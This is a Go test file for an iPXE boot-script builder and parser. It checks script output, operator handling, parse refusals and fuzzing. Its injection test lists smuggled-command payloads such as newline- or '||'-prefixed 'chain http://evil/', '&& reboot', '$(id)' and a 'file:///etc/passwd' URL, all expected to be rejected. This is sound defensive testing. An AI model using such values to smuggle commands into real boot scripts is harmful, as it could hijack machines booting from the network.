package ipxe_test

import (
	"context"
	"errors"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"rerack.dev/rerack/internal/fault"
	"rerack.dev/rerack/internal/secret"
	"rerack.dev/rerack/pxe/ipxe"
)

// seen is what a script makes a machine do when every command succeeds.
type seen struct {
	kernel, initiator string
	params            []string
	initrds           []string
	target            ipxe.Target
	login             ipxe.Login
	booted            bool
}

func play(t testing.TB, script []byte) seen {
	t.Helper()
	cmds, err := ipxe.Parse(script)
	if err != nil {
		t.Fatalf("own script is not read: %v\n%s", err, script)
	}
	var s seen
	err = ipxe.Run(context.Background(), cmds, func(_ context.Context, c ipxe.Command) error {
		switch c.Name {
		case "kernel":
			f, err := ipxe.DecodeFile(c.Args)
			s.kernel, s.params = f.URL, f.Args
			return err
		case "initrd":
			f, err := ipxe.DecodeFile(c.Args)
			s.initrds = append(s.initrds, f.URL)
			return err
		case "set":
			switch c.Args[0] {
			case "initiator-iqn":
				s.initiator = c.Args[1]
			case "username":
				s.login.User = c.Args[1]
			case "password":
				s.login.Secret = secret.New(c.Args[1])
			}
		case "sanboot":
			d, err := ipxe.DecodeSAN(c.Args)
			if err != nil {
				return err
			}
			s.target = *d.Target
			s.target.Initiator = s.initiator
			s.booted = true
			return ipxe.ErrStop
		case "boot":
			s.booted = true
			return ipxe.ErrStop
		}
		return nil
	})
	if err != nil {
		t.Fatalf("%v\n%s", err, script)
	}
	return s
}

func TestLinuxScript(t *testing.T) {
	b, err := ipxe.Linux("http://10.0.0.1/k", []string{"http://10.0.0.1/i"}, []ipxe.Param{{Key: "console", Value: "ttyS0"}, {Key: "quiet"}})
	if err != nil {
		t.Fatal(err)
	}
	want := `#!ipxe
imgfree
kernel --name kernel http://10.0.0.1/k initrd=initrd0 console=ttyS0 quiet && goto done2 ||
sleep 2
kernel --name kernel http://10.0.0.1/k initrd=initrd0 console=ttyS0 quiet || exit 1
:done2
initrd --name initrd0 http://10.0.0.1/i && goto done6 ||
sleep 2
initrd --name initrd0 http://10.0.0.1/i || exit 1
:done6
boot || exit 1
`
	if string(b) != want {
		t.Errorf("got\n%s", b)
	}
}

// TestInjection holds H83 and CVE-2026-46447: no value gets out of its place.
func TestInjection(t *testing.T) {
	payloads := []string{"\n", "\r", "\x00", " ", "\t", "a b", "a\nchain http://evil/", "a || chain http://evil/", "a && reboot", "||", "&&", "|", "&",
		"${net0/ip}", "$x", "`id`", "$(id)", "\"", "'", "\\", "#!ipxe", ";", "<", ">", "é", "\u2028", "{{.}}", "%0a\n", "\x1b[2J", "!", "*", "?x\ny", "(", ")"}
	host := "http://10.0.0.1/"
	iqn := ipxe.Target{Portal: netip.MustParseAddrPort("10.0.0.1:3260"), Name: "iqn.2026-01.x:a", Initiator: "iqn.2026-01.x:b"}
	for _, p := range payloads {
		refused := func(what string, err error) {
			t.Helper()
			if !fault.Is(err, fault.Invalid) {
				t.Errorf("%s with %q: %v", what, p, err)
			}
		}
		refused("key", ipxe.Param{Key: "a" + p, Value: "b"}.Check())
		refused("value", ipxe.Param{Key: "a", Value: "b" + p}.Check())
		_, err := ipxe.Linux(host+p, nil, nil)
		if !strings.HasPrefix(p, "?") || strings.Contains(p, "\n") {
			refused("kernel URL", err)
		}
		x := iqn
		x.Name += p
		_, err = ipxe.SAN(x, ipxe.Login{})
		refused("target", err)
		x = iqn
		x.Initiator += p
		_, err = ipxe.SAN(x, ipxe.Login{})
		refused("initiator", err)
		_, err = ipxe.SAN(iqn, ipxe.Login{User: "u" + p, Secret: secret.New("s")})
		refused("CHAP user", err)
		_, err = ipxe.SAN(iqn, ipxe.Login{User: "u", Secret: secret.New("hush" + p)})
		refused("CHAP secret", err)
		if strings.Contains(err.Error(), "hush") {
			t.Errorf("the error tells the secret: %v", err)
		}
	}
	for _, u := range []string{"file:///etc/passwd", "tftp://x/y", "/relative", "http://", "http://user:pw@10.0.0.1/", "javascript:x", "http://" + strings.Repeat("a", 600)} {
		if _, err := ipxe.EFI(u); !fault.Is(err, fault.Invalid) {
			t.Errorf("URL %q: %v", u, err)
		}
	}
}

func TestRunFollowsOperators(t *testing.T) {
	tests := []struct {
		script string
		fails  []string // commands that fail, by their text
		did    []string
		code   int // of exit; -1: the script failed; -2: left iPXE
	}{
		{"echo a\necho b\n", nil, []string{"echo a", "echo b"}, 0},
		{"echo a || echo b && echo c\n", nil, []string{"echo a", "echo c"}, 0},
		{"echo a && echo b || echo c\n", []string{"echo a"}, []string{"echo a", "echo c"}, 0},
		{"echo a && goto end ||\necho b\n:end\necho c\n", nil, []string{"echo a", "echo c"}, 0},
		{"echo a && goto end ||\necho b\n:end\necho c\n", []string{"echo a"}, []string{"echo a", "echo b", "echo c"}, 0},
		{"echo a || echo b && echo c\n", []string{"echo a"}, []string{"echo a", "echo b", "echo c"}, 0},
		{"echo a || echo b && echo c || exit 3\n", []string{"echo a", "echo c"}, []string{"echo a", "echo b", "echo c"}, 3},
		{"echo a\necho b\n", []string{"echo a"}, []string{"echo a"}, -1},
		{":again\necho a || goto again\n", nil, []string{"echo a"}, 0},
		{"echo a || goto end\necho b\n:end\necho c\n", []string{"echo a"}, []string{"echo a", "echo c"}, 0},
		{"# comment\n\n\t echo a\r\nboot || exit 1\necho b\n", nil, []string{"echo a", "boot"}, -2},
	}
	for _, tt := range tests {
		cmds, err := ipxe.Parse([]byte("#!ipxe\n" + tt.script))
		if err != nil {
			t.Fatal(err)
		}
		var did []string
		err = ipxe.Run(t.Context(), cmds, func(_ context.Context, c ipxe.Command) error {
			did = append(did, c.String())
			if c.Name == "boot" {
				return ipxe.ErrStop
			}
			if slices.Contains(tt.fails, c.String()) {
				return errors.New("failed")
			}
			return nil
		})
		code := -1
		var exit *ipxe.ExitError
		if err == nil {
			code = -2
		} else if errors.As(err, &exit) {
			code = exit.Code
		}
		if !slices.Equal(did, tt.did) || code != tt.code {
			t.Errorf("%q failing %v: did %v, code %d", tt.script, tt.fails, did, code)
		}
	}
}

func TestParseRefuses(t *testing.T) {
	for _, s := range []string{"", "kernel x", "#!ipxe\ngoto x", "#!ipxe\n:x\ngoto", "#!ipxe\n:x\ngoto x x", "#!ipxe\n:", "#!ipxe\n:x y", "#!ipxe\necho ${net0/mac}", "#!ipxe\n|| boot", "#!ipxe\nboot &&",
		"#!ipxe\nboot || || exit", "#!ipxe\necho \x00", "#!ipxe\necho é", "#!ipxe\n" + strings.Repeat("echo\n", 300), "#!ipxe\n" + strings.Repeat("a", 20000),
		"#!ipxe\necho" + strings.Repeat(" a", 600), "#!ipxe\nimgexec x", "#!ipxe" + strings.Repeat(" ", ipxe.MaxScript)} {
		if _, err := ipxe.Parse([]byte(s)); err == nil {
			t.Errorf("read %.40q", s)
		}
	}
}

// A machine that is held asks until it gets another answer, and through a time in which there is none.
func TestHold(t *testing.T) {
	const url = "http://10.0.0.1/boot/t/script.ipxe"
	script, err := ipxe.Hold(url)
	if err != nil {
		t.Fatal(err)
	}
	cmds, err := ipxe.Parse(script)
	if err != nil {
		t.Fatal(err)
	}
	var did []string
	err = ipxe.Run(t.Context(), cmds, func(_ context.Context, c ipxe.Command) error {
		did = append(did, c.Name)
		if c.Name != "chain" {
			return nil
		}
		if f, err := ipxe.DecodeFile(c.Args); err != nil || f.URL != url || !f.Replace {
			t.Fatalf("%+v, %v", f, err)
		}
		if len(did) < 6 {
			return errors.New("no answer")
		}
		return ipxe.ErrStop
	})
	if err != nil || strings.Join(did, " ") != "sleep chain sleep chain sleep chain" {
		t.Errorf("did %v, %v", did, err)
	}
	if _, err := ipxe.Hold(url + "\nexit"); !fault.Is(err, fault.Invalid) {
		t.Errorf("a URL of two lines: %v", err)
	}
}

func TestRunEndsInCircles(t *testing.T) {
	cmds, err := ipxe.Parse([]byte("#!ipxe\n:a\ngoto a\n"))
	if err != nil {
		t.Fatal(err)
	}
	if err := ipxe.Run(t.Context(), cmds, nil); !fault.Is(err, fault.Timeout) {
		t.Error(err)
	}
}

func FuzzRoundTrip(f *testing.F) {
	f.Add("http://10.0.0.1:8080/boot/abc/kernel", "http://10.0.0.1/i", "console", "ttyS0,115200n8", "iqn.2026-01.org.example:a", uint16(3260), uint8(1))
	f.Add("http://[fd00::1]/k", "http://x/initrd?x=1", "a", "", "eui.02004567a425678d", uint16(1), uint8(255))
	f.Add("http://x/\nchain y", "http://x/ || exit", "a b", "${x}", "iqn.2026-01.x:\n", uint16(0), uint8(0))
	f.Fuzz(func(t *testing.T, kernel, initrd, key, value, name string, port uint16, lun uint8) {
		if b, err := ipxe.Linux(kernel, []string{initrd}, []ipxe.Param{{Key: key, Value: value}}); err == nil {
			s := play(t, b)
			want := []string{"initrd=initrd0", ipxe.Param{Key: key, Value: value}.String()}
			if s.kernel != kernel || !slices.Equal(s.initrds, []string{initrd}) || !slices.Equal(s.params, want) || !s.booted {
				t.Fatalf("%q became %+v", b, s)
			}
		}
		in := ipxe.Target{Portal: netip.AddrPortFrom(netip.MustParseAddr("10.0.0.9"), port), Name: name, LUN: uint16(lun), Initiator: name}
		login := ipxe.Login{User: key, Secret: secret.New(value)}
		if b, err := ipxe.SAN(in, login); err == nil {
			if s := play(t, b); s.target != in || s.login != login {
				t.Fatalf("%q became %+v", b, s)
			}
		}
	})
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"#!ipxe\nboot\n", "#!ipxe\nkernel --name k http://x/ a=b || sleep 2 && boot || exit 1\n",
		"#!ipxe\nset initiator-iqn x\nsanboot iscsi:10.0.0.1:::1:iqn.2026-01.x:y\n", "#!ipxe\nsanboot --drive 0x80\nchain http://x/y\n", "#!ipxe\n:a\nchain --replace --autofree http://x/y || goto a\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		cmds, err := ipxe.Parse(b)
		if err != nil {
			return
		}
		n, once := 0, !slices.ContainsFunc(cmds, func(c ipxe.Command) bool { return c.Name == "goto" })
		_ = ipxe.Run(t.Context(), cmds, func(_ context.Context, c ipxe.Command) error { // any end is right; a panic is not
			if n++; once && n > len(cmds) {
				t.Fatal("a command ran twice")
			}
			switch c.Name {
			case "kernel", "initrd", "chain":
				_, err := ipxe.DecodeFile(c.Args)
				return err
			case "sanboot":
				_, err := ipxe.DecodeSAN(c.Args)
				return err
			}
			return nil
		})
	})
}
